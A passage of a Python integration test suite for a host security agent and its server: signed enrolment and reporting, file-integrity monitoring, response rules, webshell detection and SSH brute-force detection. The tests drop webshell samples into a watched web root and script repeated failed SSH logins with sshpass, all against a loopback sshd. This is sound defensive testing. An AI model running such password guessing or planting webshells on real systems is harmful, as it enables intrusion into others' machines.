"""test_agent.py — rampart-agent against a real rampartd, on the real kernel.

One rampartd on a free loopback port; agents with private directories
(agent_harness.py). Covers enrolment with a one-time token, signed
reporting (bad, stale and replayed signatures refused), the hosts list and
its authorisation, capabilities pushed through the heartbeat, file
integrity events at rampartd within 1 s of the change (inotify), changes
made while the agent was stopped, the spool across a rampartd outage,
SIGHUP with a broken configuration, and the idle agent's CPU and memory.
"""

import json
import os
import shutil
import signal
import socket
import stat
import subprocess
import sys
import time
import unittest

import harness  # noqa: F401  (cleanups)
from agent_harness import Agent, agent_path, sign
from rampartd_harness import Rampartd, bearer, curl, first_login, make_token, make_user

RD = ADMIN = SECOPS = AUDITOR = None
GATEWAY_TOKEN = None


def enrolment_token(session=None, **body):
    r = (session or ADMIN).request("POST", "/api/v1/agents/enrolments", body)
    assert r.status == 201, r
    return r.json()["token"]


def agents():
    r = AUDITOR.request("GET", "/api/v1/agents")
    assert r.status == 200, r
    return {a["name"]: a for a in r.json()["agents"]}


def wait_for(predicate, timeout=10, step=0.02):
    deadline = time.time() + timeout
    while time.time() < deadline:
        value = predicate()
        if value:
            return value
        time.sleep(step)
    return None


def fim_events(path, detection=None):
    r = AUDITOR.request("GET", "/api/v1/events?category=fim&limit=200")
    assert r.status == 200, r
    out = [e for e in r.json()["events"] if e.get("uri") == path]
    if detection:
        out = [e for e in out if detection in json.dumps(e)]
    return out


def audit(**params):
    """The audit log's result records (not the intents) matching params."""
    qs = "&".join("%s=%s" % kv for kv in dict(params, limit="1000").items())
    r = AUDITOR.request("GET", "/api/v1/audit?" + qs)
    assert r.status == 200, r
    return [x for x in r.json()["records"] if x["outcome"] != "intent"]


def setUpModule():
    global RD, ADMIN, SECOPS, AUDITOR, GATEWAY_TOKEN
    RD = Rampartd(name="agent").start()
    ADMIN = first_login(RD)
    SECOPS = make_user(ADMIN, "sec", "secops")
    AUDITOR = make_user(ADMIN, "aud", "auditor")
    GATEWAY_TOKEN = make_token(ADMIN, "gw", "gateway")


class Enrolment(unittest.TestCase):
    def test_token_is_single_use_and_expires(self):
        token = enrolment_token(SECOPS, expires_minutes=5)
        self.assertTrue(token.startswith("rpe_"))
        body = {"token": token, "hostname": "once", "version": "t"}
        r = RD.request("POST", "/api/v1/agent/enrol", body)
        self.assertEqual(r.status, 201, r)
        self.assertEqual(len(r.json()["secret"]), 64)
        self.assertNotIn(r.json()["secret"], RD.log_text(), "the secret reached the log")
        self.assertNotIn(token, RD.log_text(), "the token reached the log")
        r = RD.request("POST", "/api/v1/agent/enrol", dict(body, hostname="twice"))
        self.assertEqual((r.status, r.json()["error"]), (401, "invalid_enrolment_token"))
        r = RD.request("POST", "/api/v1/agent/enrol",
                       {"token": "rpe_" + "A" * 43, "hostname": "guess"})
        self.assertEqual(r.status, 401)
        # the name is taken: the token stays usable
        token2 = enrolment_token()
        r = RD.request("POST", "/api/v1/agent/enrol", {"token": token2, "hostname": "once"})
        self.assertEqual(r.status, 409)
        r = RD.request("POST", "/api/v1/agent/enrol", {"token": token2, "hostname": "once-2"})
        self.assertEqual(r.status, 201)
        r = ADMIN.request("POST", "/api/v1/agents/enrolments", {"expires_minutes": 0})
        self.assertEqual(r.status, 400)
        # enrolments are in the audit log (public route: rampartd writes them itself)
        recs = audit(action="agent.enrol")
        outcomes = [(x["actor"], x["outcome"], x["status"]) for x in recs]
        self.assertIn(("agent:once", "success", 201), outcomes)
        self.assertIn(("agent:twice", "failure", 401), outcomes)
        self.assertIn(("agent:once", "failure", 409), outcomes)
        self.assertIn(("agent:once-2", "success", 201), outcomes)
        created = audit(action="agent.enrolment_create")
        self.assertTrue(any(x["actor"] == "sec" and x["outcome"] == "success" for x in created))
        # a route without an id has no target (once it was stale stack bytes)
        self.assertEqual({x["target"] for x in created}, {""})

    def test_hosts_authorisation(self):
        token = enrolment_token()
        agent_id = RD.request("POST", "/api/v1/agent/enrol",
                              {"token": token, "hostname": "authz"}).json()["agent"]["id"]
        path = "/api/v1/agents/%d" % agent_id
        caps = {"capabilities": {"fim": False}}
        self.assertEqual(RD.request("GET", "/api/v1/agents").status, 401)
        self.assertEqual(RD.request("GET", "/api/v1/agents", headers=bearer(GATEWAY_TOKEN)).status,
                         403)
        self.assertEqual(AUDITOR.request("PATCH", path, caps).status, 403)
        self.assertEqual(AUDITOR.request("DELETE", path).status, 403)
        self.assertEqual(AUDITOR.request("POST", "/api/v1/agents/enrolments", {}).status, 403)
        self.assertEqual(SECOPS.request("PATCH", path, caps).status, 200)
        self.assertEqual(agents()["authz"]["capabilities"], {"bruteforce": True, "fim": False, "webshell": True,
                          "process": True, "baseline": True, "response": True})
        self.assertEqual(SECOPS.request("PATCH", path, {"capabilities": {"nope": 1}}).status, 400)
        self.assertEqual(ADMIN.request("DELETE", path).status, 204)
        self.assertNotIn("authz", agents())
        self.assertEqual(ADMIN.request("DELETE", path).status, 404)
        target = str(agent_id)
        self.assertTrue(any(x["actor"] == "sec" and x["target"] == target and
                            x["outcome"] == "success" for x in audit(action="agent.update")))
        deletes = [(x["actor"], x["status"]) for x in audit(action="agent.delete")
                   if x["target"] == target]
        self.assertEqual(sorted(deletes), [("admin", 204), ("admin", 404)])


class Signatures(unittest.TestCase):
    @classmethod
    def setUpClass(cls):
        r = RD.request("POST", "/api/v1/agent/enrol",
                       {"token": enrolment_token(), "hostname": "signer"})
        cls.id = r.json()["agent"]["id"]
        cls.secret = bytes.fromhex(r.json()["secret"])

    def post(self, path, body, headers):
        return curl(RD.port, "POST", path, body, headers, content_type="application/json")

    def test_signed_heartbeat_and_refusals(self):
        path = "/api/v1/agent/heartbeat"
        body = json.dumps({"version": "9.9", "heartbeat_s": 7}).encode()
        h = sign(self.id, self.secret, "POST", path, body)
        r = self.post(path, body, h)
        self.assertEqual(r.status, 200, r)
        self.assertEqual(r.json()["capabilities"], {"bruteforce": True, "fim": True, "webshell": True,
                                                    "process": True, "baseline": True,
                                                    "response": True})
        self.assertEqual(r.json()["response_rules"], [])
        self.assertEqual(agents()["signer"]["version"], "9.9")
        self.assertEqual(agents()["signer"]["status"], "online")
        # the same request again: a replay
        r = self.post(path, body, h)
        self.assertEqual((r.status, r.json()["error"]), (401, "replayed_request"))
        # unsigned; a session or a token is no agent
        self.assertEqual(self.post(path, body, {}).json()["error"], "unsigned")
        self.assertEqual(self.post(path, body, bearer(GATEWAY_TOKEN)).status, 401)
        # tampered body, wrong secret, wrong path, unknown agent
        h = sign(self.id, self.secret, "POST", path, body)
        self.assertEqual(self.post(path, body + b" ", h).json()["error"], "bad_signature")
        h = sign(self.id, b"x" * 32, "POST", path, body)
        self.assertEqual(self.post(path, body, h).json()["error"], "bad_signature")
        h = sign(self.id, self.secret, "POST", "/api/v1/agent/events", body)
        self.assertEqual(self.post(path, body, h).json()["error"], "bad_signature")
        h = sign(999999, self.secret, "POST", path, body)
        self.assertEqual(self.post(path, body, h).json()["error"], "unknown_agent")
        # outside the 5-minute window
        h = sign(self.id, self.secret, "POST", path, body, int(time.time() * 1000) - 400000)
        self.assertEqual(self.post(path, body, h).json()["error"], "stale_request")

    def test_signed_events_are_stored_with_the_host_as_source(self):
        path = "/api/v1/agent/events"
        ev = {"time": "2026-11-26T10:00:00.000Z", "action": "detect", "category": "fim",
              "app": "rampart-agent", "host": "signer", "uri": "/etc/signed-test",
              "matches": [{"detector": "fim.modified"}]}
        body = json.dumps([ev]).encode()
        r = self.post(path, body, sign(self.id, self.secret, "POST", path, body))
        self.assertEqual(r.status, 200, r)
        found = fim_events("/etc/signed-test")
        self.assertEqual(len(found), 1)
        self.assertEqual(found[0]["source"], "agent:signer")


class FileIntegrity(unittest.TestCase):
    @classmethod
    def setUpClass(cls):
        cls.agent = Agent(RD.port, enrolment_token(), hostname="web-1")
        with open(cls.agent.path("config.ini"), "w") as f:
            f.write("[main]\nmode = safe\nport = 80\n")
        os.mkdir(cls.agent.path("sub"))
        cls.agent.start()
        cls.agent.wait_log("fim: scan done")
        cls.agent.wait_log("enrolled")

    @classmethod
    def tearDownClass(cls):
        cls.agent.stop()

    def test_a_host_is_listed_online(self):
        a = wait_for(lambda: agents().get("web-1", {}).get("status") == "online" and
                     agents()["web-1"])
        self.assertTrue(a, agents())
        self.assertEqual(a["version"], "0.1.0")
        self.assertEqual(a["heartbeat_seconds"], 1)
        self.assertIsNotNone(a["last_seen"])

    def test_a_modification_reaches_rampartd_within_a_second(self):
        path = self.agent.path("config.ini")
        started = time.time()
        with open(path, "a") as f:
            f.write("debug = true\n")
        found = wait_for(lambda: fim_events(path, "fim.modified"), timeout=5, step=0.01)
        latency = time.time() - started
        self.assertTrue(found, self.agent.log_tail())
        print("fim change-to-event latency: %.3f s" % latency)
        self.assertLessEqual(latency, 1.0)
        detail = json.loads(json.dumps(found[0]))
        self.assertEqual(detail["source"], "agent:web-1")
        full = AUDITOR.request("GET", "/api/v1/events/%d" % detail["id"]).json()
        fim = full.get("event", full).get("fim") or full.get("raw", {}).get("fim")
        self.assertIn("hash", fim["attributes"])
        self.assertIn("+debug = true", fim["diff"])
        self.assertEqual(fim["before"]["size"] + len("debug = true\n"), fim["after"]["size"])

    def fim_detail(self, ev):
        full = AUDITOR.request("GET", "/api/v1/events/%d" % ev["id"]).json()
        return full.get("event", full).get("fim") or full.get("raw", {}).get("fim")

    def test_the_writing_process_is_named(self):
        """fanotify: a helper shell (known executable and comm) appends to
        a watched file and stays alive; the event names it within 1 s."""
        if os.geteuid() != 0:
            self.skipTest("fanotify needs CAP_SYS_ADMIN")
        path = self.agent.path("config.ini")
        started = time.time()
        writer = subprocess.Popen(["/bin/sh", "-c", "echo 'owner = helper' >> '%s'; sleep 3" %
                                   path])
        try:
            found = wait_for(lambda: [e for e in fim_events(path, "fim.modified")
                                      if (self.fim_detail(e).get("process") or {}).get("pid")
                                      == writer.pid], timeout=5, step=0.02)
            latency = time.time() - started
        finally:
            writer.kill()
            writer.wait()
        self.assertTrue(found, self.agent.log_tail())
        print("fim change-to-attributed-event latency: %.3f s" % latency)
        self.assertLessEqual(latency, 1.0)
        who = self.fim_detail(found[0])["process"]
        self.assertEqual(who["exe"], os.path.realpath("/bin/sh"))
        self.assertEqual(who["comm"], "sh")
        self.assertEqual(who["uid"], 0)
        self.assertEqual(who["ppid"], os.getpid())
        self.assertEqual(who["source"], "fanotify")
        # a deletion, through fanotify's file-handle mode
        doomed = self.agent.path("doomed.txt")
        with open(doomed, "w") as f:
            f.write("x")
        self.assertTrue(wait_for(lambda: fim_events(doomed, "fim.added"), timeout=5))
        remover = subprocess.Popen([sys.executable, "-c", "import os, time; os.unlink(%r); "
                                    "time.sleep(3)" % doomed])
        try:
            found = wait_for(lambda: [e for e in fim_events(doomed, "fim.deleted")
                                      if (self.fim_detail(e).get("process") or {}).get("pid")
                                      == remover.pid], timeout=5)
        finally:
            remover.kill()
            remover.wait()
        self.assertTrue(found, self.agent.log_tail())
        who = self.fim_detail(found[0])["process"]
        self.assertEqual(who["exe"], os.path.realpath(sys.executable))
        self.assertEqual(who["ppid"], os.getpid())

    def test_without_attribution_changes_are_still_reported(self):
        """The inotify fallback (fim_attribution off, as without fanotify)."""
        plain = Agent(RD.port, enrolment_token(), hostname="web-noattr",
                      extra_conf="fim_attribution off\n")
        with open(plain.path("plain.txt"), "w") as f:
            f.write("a\n")
        plain.start()
        try:
            plain.wait_log("fim: scan done")
            path = plain.path("plain.txt")
            with open(path, "a") as f:
                f.write("b\n")
            found = wait_for(lambda: fim_events(path, "fim.modified"), timeout=5)
            self.assertTrue(found, plain.log_tail())
            self.assertNotIn("process", self.fim_detail(found[0]))
        finally:
            plain.stop()

    def test_added_deleted_new_directory_and_ignore_rules(self):
        new = self.agent.path("sub", "new.php")
        with open(new, "w") as f:
            f.write("<?php echo 1;\n")
        self.assertTrue(wait_for(lambda: fim_events(new, "fim.added"), timeout=3))
        os.unlink(new)
        self.assertTrue(wait_for(lambda: fim_events(new, "fim.deleted"), timeout=3))
        deep = self.agent.path("d1", "d2")
        os.makedirs(deep)
        inner = os.path.join(deep, "inner.txt")
        with open(inner, "w") as f:
            f.write("x")
        self.assertTrue(wait_for(lambda: fim_events(inner, "fim.added"), timeout=3))
        swap = self.agent.path("config.ini.swp")
        with open(swap, "w") as f:
            f.write("ignored")
        # a symlink loop is recorded, never followed
        os.symlink(self.agent.path("loop"), self.agent.path("loop"))
        link = self.agent.path("loop")
        self.assertTrue(wait_for(lambda: fim_events(link, "fim.added"), timeout=3))
        self.assertEqual(fim_events(swap), [])
        # an unreadable file: metadata without a hash, no crash
        secret = self.agent.path("unreadable")
        with open(secret, "w") as f:
            f.write("s")
        os.chmod(secret, 0)
        self.assertTrue(wait_for(lambda: fim_events(secret, "fim.added"), timeout=3))
        self.assertIsNone(self.agent.proc.poll())

    def test_capability_switched_off_and_on_by_rampartd(self):
        agent_id = agents()["web-1"]["id"]
        path = "/api/v1/agents/%d" % agent_id
        self.assertEqual(ADMIN.request("PATCH", path, {"capabilities": {"fim": False}}).status,
                         200)
        self.agent.wait_log("fim=off")
        quiet = self.agent.path("while-off.txt")
        with open(quiet, "w") as f:
            f.write("unseen")
        time.sleep(1.5)
        self.assertEqual(fim_events(quiet), [])
        self.assertEqual(ADMIN.request("PATCH", path, {"capabilities": {"fim": True}}).status, 200)
        # switched on again: a re-scan finds what changed meanwhile
        self.assertTrue(wait_for(lambda: fim_events(quiet, "fim.added"), timeout=5),
                        self.agent.log_tail())


class HostGroups(unittest.TestCase):
    """Groups switch capabilities of real agents (group, then host
    overrides) and push response rules; a dry-run rule records the
    response without acting."""

    @classmethod
    def setUpClass(cls):
        cls.agent = Agent(RD.port, enrolment_token(), hostname="grp-1")
        with open(cls.agent.path("app.conf"), "w") as f:
            f.write("a = 1\n")
        cls.agent.start()
        cls.agent.wait_log("fim: scan done")
        cls.agent.wait_log("enrolled")
        cls.host = "/api/v1/agents/%d" % wait_for(lambda: agents().get("grp-1"))["id"]

    @classmethod
    def tearDownClass(cls):
        cls.agent.stop()

    def group(self, name, **body):
        r = SECOPS.request("POST", "/api/v1/agent-groups", dict(body, name=name))
        self.assertEqual(r.status, 201, r)
        return r.json()["group"]

    def test_groups_api(self):
        g = self.group("api-group", capabilities={"process": False},
                       response_rules=[{"detection": "bruteforce.*", "action": "block"}])
        self.assertEqual(g["capabilities"], {"process": False})
        self.assertFalse(g["effective"]["process"])
        self.assertTrue(g["effective"]["fim"])
        # normalised: mode off unless given (off by default, per rule), 600 s blocks
        self.assertEqual(g["response_rules"], [{"detection": "bruteforce.*", "action": "block",
                                                "mode": "off", "seconds": 600}])
        r = SECOPS.request("POST", "/api/v1/agent-groups", {"name": "API-GROUP"})
        self.assertEqual(r.status, 409, r)
        for bad in ({"name": "x y"}, {"name": "ok", "capabilities": {"nope": True}},
                    {"name": "ok", "response_rules": [{"detection": "a", "action": "reboot"}]},
                    {"name": "ok", "response_rules": [{"detection": "a;b", "action": "kill"}]},
                    {"name": "ok", "response_rules": [{"detection": "a", "action": "kill",
                                                       "seconds": 5}]},
                    {"name": "ok", "response_rules": [{"detection": "a", "action": "kill"}] * 33}):
            self.assertEqual(SECOPS.request("POST", "/api/v1/agent-groups", bad).status, 400, bad)
        self.assertEqual(AUDITOR.request("POST", "/api/v1/agent-groups", {"name": "x"}).status,
                         403)
        path = "/api/v1/agent-groups/%d" % g["id"]
        r = ADMIN.request("PATCH", path, {"capabilities": {"process": None, "webshell": False}})
        self.assertEqual(r.status, 200, r)
        self.assertEqual(r.json()["group"]["capabilities"], {"webshell": False})
        self.assertEqual(ADMIN.request("PATCH", "/api/v1/agent-groups/999999",
                                       {"name": "z"}).status, 404)
        self.assertEqual(SECOPS.request("PATCH", self.host, {"group": 999999}).status, 404)
        listed = [x for x in AUDITOR.request("GET", "/api/v1/agent-groups").json()["groups"]
                  if x["id"] == g["id"]]
        self.assertEqual(listed[0]["hosts"], [])
        self.assertEqual(ADMIN.request("DELETE", path).status, 204)
        self.assertEqual(ADMIN.request("DELETE", path).status, 404)
        self.assertEqual(sorted(x["outcome"] for x in audit(action="agent_group.delete")),
                         ["failure", "success"])

    def test_a_group_switch_reaches_the_agent_and_host_overrides_win(self):
        g = self.group("web-servers", capabilities={"fim": False})
        r = SECOPS.request("PATCH", self.host, {"group": g["id"]})
        self.assertEqual(r.status, 200, r)
        self.assertEqual(r.json()["group"], {"id": g["id"], "name": "web-servers"})
        self.assertFalse(r.json()["capabilities"]["fim"])
        self.assertEqual(r.json()["overrides"], {})
        started = time.time()
        self.agent.wait_log("fim=off", timeout=5)
        print("group switch to agent: %.2f s (heartbeat 1 s)" % (time.time() - started))
        quiet = self.agent.path("while-group-off.txt")
        with open(quiet, "w") as f:
            f.write("unseen")
        time.sleep(1.5)
        self.assertEqual(fim_events(quiet), [])
        listed = [x for x in AUDITOR.request("GET", "/api/v1/agent-groups").json()["groups"]
                  if x["id"] == g["id"]][0]
        self.assertEqual(listed["hosts"], [agents()["grp-1"]["id"]])
        # the host's override wins over its group's switch
        r = SECOPS.request("PATCH", self.host, {"capabilities": {"fim": True}})
        self.assertEqual((r.json()["overrides"], r.json()["capabilities"]["fim"]),
                         ({"fim": True}, True))
        self.assertTrue(wait_for(lambda: fim_events(quiet, "fim.added"), timeout=5),
                        self.agent.log_tail())
        # cleared: the group decides again
        r = SECOPS.request("PATCH", self.host, {"capabilities": {"fim": None}})
        self.assertEqual((r.json()["overrides"], r.json()["capabilities"]["fim"]), ({}, False))
        self.assertEqual(agents()["grp-1"]["group"]["name"], "web-servers")
        self.assertEqual(SECOPS.request("PATCH", self.host, {"group": None}).status, 200)
        self.assertTrue(agents()["grp-1"]["capabilities"]["fim"])
        self.agent.wait_log("fim=on", timeout=5)

    def test_a_pushed_dry_run_rule_records_the_response_without_acting(self):
        g = self.group("dry-runners", response_rules=[
            {"detection": "fim.modified", "action": "quarantine", "mode": "dry-run"}])
        self.assertEqual(SECOPS.request("PATCH", self.host, {"group": g["id"]}).status, 200)
        self.agent.wait_log("response rules from rampartd", timeout=5)
        path = self.agent.path("app.conf")
        with open(path, "a") as f:
            f.write("b = 2\n")

        def dry():
            r = AUDITOR.request("GET", "/api/v1/events?category=response&limit=100")
            return [e for e in r.json()["events"] if e["uri"] == path and
                    e["source"] == "agent:grp-1"]
        found = wait_for(dry, timeout=5)
        self.assertTrue(found, self.agent.log_tail())
        ev = found[0]
        self.assertEqual((ev["action"], ev["rules"]), ("log", ["response.quarantine"]))
        full = AUDITOR.request("GET", "/api/v1/events/%d" % ev["id"]).json()
        d = full.get("event", full).get("response") or full.get("raw", {}).get("response")
        self.assertEqual((d["mode"], d["done"], d["rule_origin"], d["trigger"]),
                         ("dry-run", False, "rampartd", "fim.modified"))
        # nothing was done: the file is where it was, with its content
        with open(path) as f:
            self.assertEqual(f.read(), "a = 1\nb = 2\n")
        self.assertFalse(os.path.exists(os.path.join(self.agent.state, "quarantine")) and
                         os.listdir(os.path.join(self.agent.state, "quarantine")))
        self.assertEqual(SECOPS.request("PATCH", self.host, {"group": None}).status, 200)


class WebShells(unittest.TestCase):
    DATA = os.path.join(harness.SOURCE_DIR, "tests", "data", "webshell")

    @classmethod
    def setUpClass(cls):
        cls.agent = Agent(RD.port, enrolment_token(), hostname="web-2")
        cls.www = cls.agent.path("www")
        os.mkdir(cls.www)
        # one already there when the agent starts
        shutil.copy(os.path.join(cls.DATA, "shells", "eval_post.php"),
                    os.path.join(cls.www, "old.php"))
        cls.agent.write_conf("webshell_root %s\nwebshell_rules %s\n" %
                             (cls.www, os.path.join(harness.SOURCE_DIR, "etc",
                                                    "rampart-webshell.yar")))
        cls.agent.start()
        cls.agent.wait_log("fim: scan done")

    @classmethod
    def tearDownClass(cls):
        cls.agent.stop()

    def webshell_events(self, path):
        r = AUDITOR.request("GET", "/api/v1/events?category=webshell&limit=200")
        self.assertEqual(r.status, 200, r)
        return [e for e in r.json()["events"] if e.get("uri") == path]

    def test_existing_and_dropped_shells_are_flagged_ordinary_code_is_not(self):
        old = os.path.join(self.www, "old.php")
        self.assertTrue(wait_for(lambda: self.webshell_events(old), timeout=5),
                        self.agent.log_tail())
        # the ordinary corpus first, then every sample
        for name in os.listdir(os.path.join(self.DATA, "clean")):
            shutil.copy(os.path.join(self.DATA, "clean", name), os.path.join(self.www, name))
        uploads = os.path.join(self.www, "uploads")
        os.mkdir(uploads)
        samples = sorted(os.listdir(os.path.join(self.DATA, "shells")))
        for name in samples:
            shutil.copy(os.path.join(self.DATA, "shells", name), os.path.join(uploads, name))
        for name in samples:
            path = os.path.join(uploads, name)
            found = wait_for(lambda: self.webshell_events(path), timeout=5)
            self.assertTrue(found, "%s not flagged\n%s" % (name, self.agent.log_tail()))
            self.assertTrue(any(m.startswith("webshell.") for m in found[0]["rules"]), found[0])
        for name in os.listdir(os.path.join(self.DATA, "clean")):
            self.assertEqual(self.webshell_events(os.path.join(self.www, name)), [], name)
        # FIM saw them all too; the agent executed none of them
        self.assertTrue(fim_events(os.path.join(uploads, samples[0]), "fim.added"))
        self.assertIsNone(self.agent.proc.poll())

    def test_heuristics_flag_obfuscated_shells_and_uploaded_scripts(self):
        heur = os.path.join(self.DATA, "heuristic")
        samples = sorted(os.listdir(heur))
        for name in samples:
            shutil.copy(os.path.join(heur, name), os.path.join(self.www, "h-" + name))
        for name in samples:
            path = os.path.join(self.www, "h-" + name)
            found = wait_for(lambda: self.webshell_events(path), timeout=5)
            self.assertTrue(found, "%s not flagged\n%s" % (name, self.agent.log_tail()))
        # an ordinary-looking script is flagged once it lands in an upload directory
        os.makedirs(os.path.join(self.www, "images"), exist_ok=True)
        dropped = os.path.join(self.www, "images", "info.php")
        kept = os.path.join(self.www, "info.php")
        for path in (dropped, kept):
            with open(path, "w") as f:
                f.write("<?php phpinfo();\n")
        found = wait_for(lambda: self.webshell_events(dropped), timeout=5)
        self.assertTrue(found, self.agent.log_tail())
        self.assertIn("webshell.heuristic", found[0]["rules"])
        d = event_detail(found[0], "webshell")
        self.assertEqual(d["heuristics"]["traits"], ["upload_script"])
        time.sleep(0.5)
        self.assertEqual(self.webshell_events(kept), [])

    def test_a_web_root_outside_the_watched_paths_is_refused(self):
        agent = Agent(RD.port, "rpe_unused", hostname="web-3",
                      extra_conf="webshell_root /srv/elsewhere\n")
        agent.start()
        agent.proc.wait(timeout=10)
        self.assertEqual(agent.proc.returncode, 2)
        self.assertIn("webshell_root \"/srv/elsewhere\" is not inside any fim_path",
                      agent.log_text())


class BruteForce(unittest.TestCase):
    """Real failed SSH logins (sshpass) against a real sshd on a loopback port."""

    @classmethod
    def setUpClass(cls):
        if not (os.path.exists("/usr/sbin/sshd") and shutil.which("sshpass")):
            raise unittest.SkipTest("openssh-server and sshpass are not installed "
                                    "(scripts/deps.sh installs them)")
        if os.geteuid() != 0:
            raise unittest.SkipTest("sshd needs root for its privilege separation")
        cls.agent = Agent(RD.port, enrolment_token(), hostname="ssh-1")
        cls.sshd_dir = os.path.join(cls.agent.dir, "sshd")
        os.mkdir(cls.sshd_dir)
        cls.sshd_log = os.path.join(cls.sshd_dir, "sshd.log")
        key = os.path.join(cls.sshd_dir, "host_key")
        subprocess.run(["ssh-keygen", "-q", "-t", "ed25519", "-N", "", "-f", key], check=True)
        # a client key of root's for the successful logins
        cls.client_key = os.path.join(cls.sshd_dir, "client_key")
        subprocess.run(["ssh-keygen", "-q", "-t", "ed25519", "-N", "", "-f", cls.client_key],
                       check=True)
        shutil.copy(cls.client_key + ".pub", os.path.join(cls.sshd_dir, "authorized_keys"))
        cls.ssh_port = harness.free_port()
        conf = os.path.join(cls.sshd_dir, "sshd_config")
        with open(conf, "w") as f:
            f.write("Port %d\nListenAddress 127.0.0.1\nHostKey %s\nPidFile %s/pid\n"
                    "PasswordAuthentication yes\nKbdInteractiveAuthentication no\nUsePAM no\n"
                    "MaxAuthTries 10\nAuthorizedKeysFile %s/authorized_keys\nStrictModes no\n"
                    % (cls.ssh_port, key, cls.sshd_dir, cls.sshd_dir))
        os.makedirs("/run/sshd", exist_ok=True)
        cls.sshd = subprocess.Popen(["/usr/sbin/sshd", "-D", "-f", conf, "-E", cls.sshd_log],
                                    start_new_session=True)
        harness._cleanups.append(cls.stop_sshd)
        harness.wait_port(cls.ssh_port)
        # login profiles that judge from the second login on, per address
        cls.agent.write_conf("auth_log %s\nbruteforce_threshold 4\n"
                             "bruteforce_window_seconds 60\nlogin_learning_hours 0\n"
                             "login_min_logins 1\nlogin_prefix4 32\n" % cls.sshd_log)
        cls.agent.start()
        # two more agents on the same log with active response: one
        # active, one dry-run, each with its nft commands in a network
        # namespace of its own (the host's firewall is never touched)
        cls.netns = {}
        cls.responders = {}
        for mode in ("active", "dry-run"):
            ns = "rp-agent-%s-%d" % (mode, os.getpid())
            subprocess.run(["ip", "netns", "add", ns], check=True)
            harness._cleanups.append(lambda ns=ns: subprocess.run(["ip", "netns", "del", ns]))
            cls.netns[mode] = ns
            agent = Agent(RD.port, enrolment_token(), hostname="ssh-%s" % mode)
            agent.write_conf("auth_log %s\nbruteforce_threshold 4\nbruteforce_window_seconds 60\n"
                             "response_mode %s\nresponse_rule bruteforce.source block 120\n"
                             "response_netns %s\n" % (cls.sshd_log, mode, ns))
            cls.responders[mode] = agent.start()
        for agent in [cls.agent] + list(cls.responders.values()):
            agent.wait_log("fim: scan done")

    @classmethod
    def stop_sshd(cls):
        if cls.sshd.poll() is None:
            os.killpg(cls.sshd.pid, signal.SIGTERM)
            cls.sshd.wait(timeout=10)

    @classmethod
    def tearDownClass(cls):
        cls.agent.stop()
        for agent in cls.responders.values():
            agent.stop()
        cls.stop_sshd()

    def failed_login(self, user):
        subprocess.run(["sshpass", "-p", "not-the-password", "ssh", "-p", str(self.ssh_port),
                        "-o", "StrictHostKeyChecking=no", "-o", "UserKnownHostsFile=/dev/null",
                        "-o", "PreferredAuthentications=password",
                        "-o", "NumberOfPasswordPrompts=1", "-o", "ConnectTimeout=5",
                        "%s@127.0.0.1" % user, "true"],
                       stdout=subprocess.DEVNULL, stderr=subprocess.DEVNULL, timeout=30)

    def events(self):
        r = AUDITOR.request("GET", "/api/v1/events?category=bruteforce&limit=100")
        self.assertEqual(r.status, 200, r)
        return r.json()["events"]

    def good_login(self, source):
        """A successful login of root's key, from source (a loopback address)."""
        r = subprocess.run(["ssh", "-p", str(self.ssh_port), "-b", source, "-i", self.client_key,
                            "-o", "StrictHostKeyChecking=no", "-o", "UserKnownHostsFile=/dev/null",
                            "-o", "BatchMode=yes", "-o", "PreferredAuthentications=publickey",
                            "-o", "ConnectTimeout=5", "root@127.0.0.1", "true"],
                           stdout=subprocess.DEVNULL, stderr=subprocess.PIPE, timeout=30)
        self.assertEqual(r.returncode, 0, r.stderr)

    def login_events(self):
        r = AUDITOR.request("GET", "/api/v1/events?category=login&limit=100")
        self.assertEqual(r.status, 200, r)
        return [e for e in r.json()["events"] if e["source"] == "agent:ssh-1"]

    def test_a_login_from_a_new_source_is_flagged(self):
        self.good_login("127.0.0.1")
        profiles = os.path.join(self.agent.state, "login-profiles.json")

        def learned():
            try:
                with open(profiles) as f:
                    return '"root"' in f.read()
            except OSError:
                return False
        self.assertTrue(wait_for(learned, timeout=10), self.agent.log_tail())
        self.assertEqual([e for e in self.login_events() if "login.new_source" in e["rules"]], [])
        self.good_login("127.0.0.2")
        found = wait_for(lambda: [e for e in self.login_events()
                                  if "login.new_source" in e["rules"]], timeout=10)
        self.assertTrue(found, self.agent.log_tail())
        ev = found[0]
        self.assertEqual((ev["client"], ev["uri"]), ("127.0.0.2", "ssh://root"))
        full = AUDITOR.request("GET", "/api/v1/events/%d" % ev["id"]).json()
        detail = full.get("event", full).get("login") or full.get("raw", {}).get("login")
        self.assertEqual(detail["prefix"], "127.0.0.2/32")
        self.assertEqual(detail["service"], "sshd")
        self.assertGreaterEqual(detail["known_sources"], 1)
        # learned: the same source again raises nothing more
        self.good_login("127.0.0.2")
        time.sleep(2)
        self.assertEqual(len([e for e in self.login_events()
                              if "login.new_source" in e["rules"]]), 1)

    def test_password_guessing_is_detected(self):
        for i in range(5):
            self.failed_login("guess-%d" % i if i % 2 else "root")
        found = wait_for(lambda: [e for e in self.events() if "bruteforce.source" in e["rules"]
                                  and e["source"] == "agent:ssh-1"], timeout=10)
        self.assertTrue(found, self.agent.log_tail())
        ev = found[0]
        self.assertEqual(ev["client"], "127.0.0.1")
        self.assertEqual(ev["source"], "agent:ssh-1")
        full = AUDITOR.request("GET", "/api/v1/events/%d" % ev["id"]).json()
        detail = full.get("event", full).get("bruteforce") or full.get("raw", {}).get("bruteforce")
        self.assertEqual(detail["source"], "127.0.0.1")
        self.assertGreaterEqual(detail["failures"], 4)
        # one alert per source and window, however many more failures come
        self.failed_login("root")
        time.sleep(1.5)
        self.assertEqual(len([e for e in self.events() if "bruteforce.source" in e["rules"]
                              and e["source"] == "agent:ssh-1"]), 1)

    def nft(self, mode, *args):
        return subprocess.run(["ip", "netns", "exec", self.netns[mode], "nft"] + list(args),
                              capture_output=True, text=True)

    def responses(self, host):
        r = AUDITOR.request("GET", "/api/v1/events?category=response&limit=100")
        self.assertEqual(r.status, 200, r)
        return [e for e in r.json()["events"] if e["source"] == "agent:" + host]

    def connects_in(self, mode):
        """A TCP connection from 127.0.0.1 to a listener, inside the namespace."""
        code = ("import socket\nl = socket.socket(); l.bind(('127.0.0.1', 0)); l.listen(1)\n"
                "c = socket.socket(); c.settimeout(1.5)\n"
                "try:\n    c.connect(l.getsockname()); print('connected')\n"
                "except OSError:\n    print('dropped')\n")
        subprocess.run(["ip", "netns", "exec", self.netns[mode], "ip", "link", "set", "lo", "up"],
                       check=True)
        out = subprocess.run(["ip", "netns", "exec", self.netns[mode], sys.executable, "-c", code],
